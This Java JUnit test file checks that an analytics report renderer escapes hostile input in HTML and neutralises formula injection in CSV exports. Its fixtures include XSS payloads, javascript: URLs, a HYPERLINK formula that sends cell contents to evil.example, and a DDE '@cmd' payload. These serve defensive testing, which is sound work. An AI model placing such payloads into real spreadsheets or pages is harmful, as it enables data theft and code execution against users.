package dev.veille.reports;

import static org.assertj.core.api.Assertions.assertThat;

import dev.veille.analytics.ReportData;
import dev.veille.analytics.ReportFormat;
import dev.veille.analytics.ReportPost;
import dev.veille.analytics.ReportSettings;
import dev.veille.common.Json;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Rendering on hostile input (no Spark): XSS in the HTML, formula injection in the CSV, numbers agree. */
class ReportRenderTest {
  static final String SCRIPT = "<script>alert('x')</script>";
  static final String IMG = "\"><img src=x onerror=alert(1)>";
  static final String RTL = "\u202Eevil\u202C and zero\u200Bwidth\u200D";
  static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

  static ReportData hostileReport() {
    SplittableRandom r = new SplittableRandom(1);
    List<ReportPost> posts = new ArrayList<>();
    ZoneId zone = ZoneId.of("Europe/Paris");
    Instant start = Instant.parse("2026-06-01T00:00:00Z");
    String hostile = " " + SCRIPT + IMG + RTL + " plain text, with \"quotes\"";
    String[] texts = {FORMULA + hostile, "+SUM(1,2)" + hostile, "-2+3" + hostile, "@cmd|' /C calc'!A0" + hostile};
    String[][] tags = {{"<b>bold</b>", "x\"y"}, {"=cmd", "+plus"}, {"-minus", "@at"}};
    for (int i = 0; i < 600; i++) {
      Instant at = start.plusSeconds(r.nextLong(150L * 86400));
      var local = at.atZone(zone);
      boolean best = i % 12 == 0;
      if (best) {
        local = local.with(java.time.temporal.TemporalAdjusters.nextOrSame(java.time.DayOfWeek.TUESDAY)).withHour(20);
        at = local.toInstant();
      }
      double logRate = Math.log(0.03) + (best ? 0.5 : 0) + 0.3 * r.nextGaussian();
      String[] t = tags[i % tags.length];
      String url = i % 5 == 0 ? "javascript:alert(1)" : "https://example.com/p/" + i + "?a=1&b=\"2\"";
      posts.add(new ReportPost("facebook:" + i, "facebook", FORMULA, SCRIPT + " " + RTL, zone.getId(), at,
          local.toLocalDate(), local.getDayOfWeek().getValue(), local.getHour(), i % 3 == 0 ? "video" : "image",
          i % 13 == 0, List.of(t), url, texts[i % texts.length], "en", "reach", logRate, 100));
    }
    LocalDate date = LocalDate.of(2026, 11, 1);
    return ReportData.compute(posts, date.minusDays(7).atStartOfDay(ZoneOffset.UTC).toInstant(), date,
        ReportSettings.DEFAULTS, null, null, null, List.of());
  }

  @Test
  void hostileTextRendersAsText() {
    String html = ReportRender.html(hostileReport());
    assertThat(html).doesNotContain("<script>alert").doesNotContain("<img src=x").doesNotContain("<b>bold")
        .doesNotContain("href=\"javascript:").doesNotContain("onerror=alert");
    assertThat(html).contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;").contains("&lt;img src");
    // RTL override and zero-width characters stay as characters, isolated inside <bdi>.
    assertThat(html).contains("\u202Eevil").contains("zero\u200Bwidth");
    assertThat(html).contains("<bdi dir=\"auto\">");
    assertThat(html).contains("href=\"https://example.com/p/");
    assertThat(html.toLowerCase()).doesNotContain("<script").doesNotContain("<link").doesNotContain("<img");
  }

  @Test
  void csvCellsCannotStartFormulas() {
    ReportData d = hostileReport();
    for (String csv : List.of(ReportRender.bestTimesCsv(d), ReportRender.topThemesCsv(d))) {
      for (String line : csv.split("\r\n")) {
        for (String field : parse(line)) {
          if (!field.isEmpty() && "=+-@".indexOf(field.charAt(0)) >= 0) {
            assertThat(field).as("a cell that starts like a formula must be a plain number").matches("-?[0-9.E-]+");
          }
        }
      }
    }
    assertThat(ReportRender.bestTimesCsv(d)).contains("'=HYPERLINK(");
    assertThat(ReportRender.topThemesCsv(d)).containsAnyOf("'=HYPERLINK(", "'+SUM", "'-2+3", "'@cmd");
    assertThat(ReportFormat.neutralise("@SUM(A1)")).isEqualTo("'@SUM(A1)");
    assertThat(ReportFormat.neutralise("+1")).isEqualTo("'+1");
    assertThat(ReportFormat.neutralise("-1+2")).isEqualTo("'-1+2");
    assertThat(ReportFormat.neutralise("fine")).isEqualTo("fine");
  }

  @Test
  void numbersAgreeAndPlantedSlotWins() throws Exception {
    ReportData d = hostileReport();
    var bt = Json.MAPPER.readTree(ReportRender.bestTimesJson(d));
    var first = bt.path("accounts").path(0).path("recommended").path(0);
    assertThat(first.path("weekday").asInt()).isEqualTo(2);
    assertThat(first.path("hour").asInt()).isEqualTo(20);
    ReportAgreement.check(bt, ReportRender.bestTimesCsv(d), ReportRender.html(d),
        Json.MAPPER.readTree(ReportRender.topThemesJson(d)), ReportRender.topThemesCsv(d));
  }

  /**
   * The CSVs read back with commons-csv: quotes, commas and line breaks inside cells keep their
   * value, lines end with CRLF, a missing value is an empty cell without quotes.
   */
  @Test
  void csvReadsBackCellForCell() throws Exception {
    String account = "Maison \"Lune\", Paris\r\nsecond line";
    List<ReportPost> posts = new ArrayList<>();
    ZoneId zone = ZoneId.of("Europe/Paris");
    SplittableRandom r = new SplittableRandom(2);
    Instant start = Instant.parse("2026-06-01T00:00:00Z");
    for (int i = 0; i < 300; i++) {
      Instant at = start.plusSeconds(r.nextLong(150L * 86400));
      var local = at.atZone(zone);
      posts.add(new ReportPost("facebook:" + i, "facebook", "1", account, zone.getId(), at, local.toLocalDate(),
          local.getDayOfWeek().getValue(), local.getHour(), "image", false, List.of("atelier", "lune"),
          i % 2 == 0 ? null : "https://example.com/p/" + i, "Du neuf, \"enfin\"\r\nà l'atelier #atelier",
          "fr", "reach", Math.log(0.03) + 0.3 * r.nextGaussian(), 100));
    }
    LocalDate date = LocalDate.of(2026, 11, 1);
    ReportData d = ReportData.compute(posts, date.minusDays(7).atStartOfDay(ZoneOffset.UTC).toInstant(), date,
        ReportSettings.DEFAULTS, null, null, null, List.of());
    String bestTimes = ReportRender.bestTimesCsv(d);
    String topThemes = ReportRender.topThemesCsv(d);
    for (String csv : List.of(bestTimes, topThemes)) {
      assertThat(csv).endsWith("\r\n").doesNotContain(",\"\",").doesNotContain(",\"\"\r\n");
      assertThat(csv.replace("\r\n", "")).as("line ends are CRLF, except inside a quoted cell")
          .doesNotContain("\n\"").doesNotContain("\n,");
    }
    CSVFormat header = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
    List<CSVRecord> slots = CSVParser.parse(bestTimes, header).getRecords();
    assertThat(slots).isNotEmpty().allSatisfy(rec -> {
      assertThat(rec.size()).isEqualTo(ReportRender.BEST_TIMES_HEADER.split(",").length);
      assertThat(rec.get("account")).isEqualTo(account);
      assertThat(rec.get("group").isEmpty()).isEqualTo(rec.get("scope").equals("account"));
    });
    assertThat(slots).filteredOn(rec -> rec.get("list").equals("cell")).isNotEmpty()
        .allSatisfy(rec -> assertThat(rec.get("rank")).isEmpty());
    List<CSVRecord> themes = CSVParser.parse(topThemes, header).getRecords();
    assertThat(themes).isNotEmpty().allSatisfy(rec -> {
      assertThat(rec.size()).isEqualTo(ReportRender.TOP_THEMES_HEADER.split(",").length);
      assertThat(rec.get("sentiment_mean")).isEmpty();
      assertThat(rec.get("example_1_text")).isEqualTo("Du neuf, \"enfin\"\r à l'atelier #atelier");
    });
    assertThat(themes).extracting(rec -> rec.get("example_1_url"))
        .allSatisfy(url -> assertThat(url).matches("|https://example\\.com/p/[0-9]+"));
  }

  /** A minimal RFC 4180 line parser (no embedded line breaks in these fixtures). */
  static List<String> parse(String line) {
    List<String> out = new ArrayList<>();
    StringBuilder f = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
          f.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          f.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        out.add(f.toString());
        f.setLength(0);
      } else {
        f.append(c);
      }
    }
    out.add(f.toString());
    return out;
  }
}
